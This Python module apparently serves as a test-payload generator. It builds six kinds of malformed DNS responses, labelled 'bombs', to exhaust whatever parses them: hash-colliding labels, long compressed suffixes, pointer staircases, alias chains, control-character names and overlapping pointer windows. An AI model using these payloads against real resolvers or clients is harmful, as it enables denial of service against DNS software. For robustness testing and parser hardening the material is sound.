"""DNS answers made to cost whoever reads them: each cost a general reader between six seconds and a minute."""

from __future__ import annotations

import itertools
import struct

QUESTION = b"\4keys\7example\4test\0"
FQDN = "keys.example.test"


def _head(answers: int, query: bytes) -> bytes:
    return query[:2] + struct.pack("!5H", 0x8180, 1, answers, 0, 0) + QUESTION + struct.pack("!2H", 1, 1)


def _record(owner: bytes, data: bytes = b"\xc0\x00\x02\x42", kind: int = 1) -> bytes:
    return owner + struct.pack("!2HIH", kind, 1, 60, len(data)) + data


def _filled(records: itertools.chain[bytes] | list[bytes], query: bytes, size: int) -> bytes:
    body, count = b"", 0
    room = size - len(_head(0, query))
    for record in records:
        if len(body) + len(record) > room:
            break
        body, count = body + record, count + 1
    return _head(count, query) + body


def colliding_labels(query: bytes, size: int = 65_535) -> bytes:
    """Owners of one hash under h = 9 h + c, since 9 f + z = 9 g + q: every one is compared with every other."""
    pairs = itertools.product((b"fz", b"gq"), repeat=12)
    owners = (bytes([24]) + b"".join(pair) + b"\xc0\x0c" for pair in pairs)
    return _filled([_record(owner) for owner in owners], query, size)


def long_suffixes(query: bytes, size: int = 65_535) -> bytes:
    """Each owner is a label of its own before the same hundred others."""
    begin = len(_head(0, query)) + 10
    suffix = b"".join(b"\1" + bytes([97 + n % 26]) for n in range(110)) + b"\0"
    first = _record(b"\0", suffix, kind=99)
    owners = (bytes([4]) + b"%04x" % n + struct.pack("!H", 0xC000 + begin + 1) for n in range(4096))
    return _filled([first, *(_record(owner) for owner in owners)], query, size)


def pointers_to_pointers(query: bytes, size: int = 65_535) -> bytes:
    """A staircase of pointers, and records that all begin at its top."""
    begin = len(_head(0, query)) + 11
    stairs = struct.pack("!H", 0xC00C) + b"".join(
        struct.pack("!H", 0xC000 + begin + 2 * n) for n in range(7000)
    )
    owners = [struct.pack("!H", 0xC000 + begin + 2 * (7000 - n % 6000)) for n in range(4096)]
    return _filled([_record(b"\0", stairs, kind=99), *map(_record, owners)], query, size)


def aliases(query: bytes, size: int = 65_535) -> bytes:
    """Nothing but aliases, each to the next."""
    names = [b"\6" + b"h%05d" % n + b"\xc0\x0c" for n in range(4096)]
    chain = [b"\xc0\x0c", *names]
    records = [_record(a, b, kind=5) for a, b in itertools.pairwise(chain)]
    return _filled(records, query, size)


def control_characters(query: bytes, size: int = 65_535) -> bytes:
    """Names whose every byte takes four characters to show."""
    owners = [(b"\x3f" + b"\x1b" * 59 + struct.pack("!I", n)) * 3 + b"\0" for n in range(400)]
    return _filled([_record(owner) for owner in owners], query, size)


def own_windows(query: bytes, size: int = 65_535) -> bytes:
    """Owners that are pointers into one text of labels, each to another byte of it."""
    begin = len(_head(0, query)) + 11
    text = b"\1\1" * 2000 + b"\0"
    owners = [struct.pack("!H", 0xC000 + begin + 2 * (1999 - n % 120)) for n in range(4096)]
    return _filled([_record(b"\0", text, kind=99), *map(_record, owners)], query, size)


BOMBS = (colliding_labels, long_suffixes, pointers_to_pointers, aliases, control_characters, own_windows)
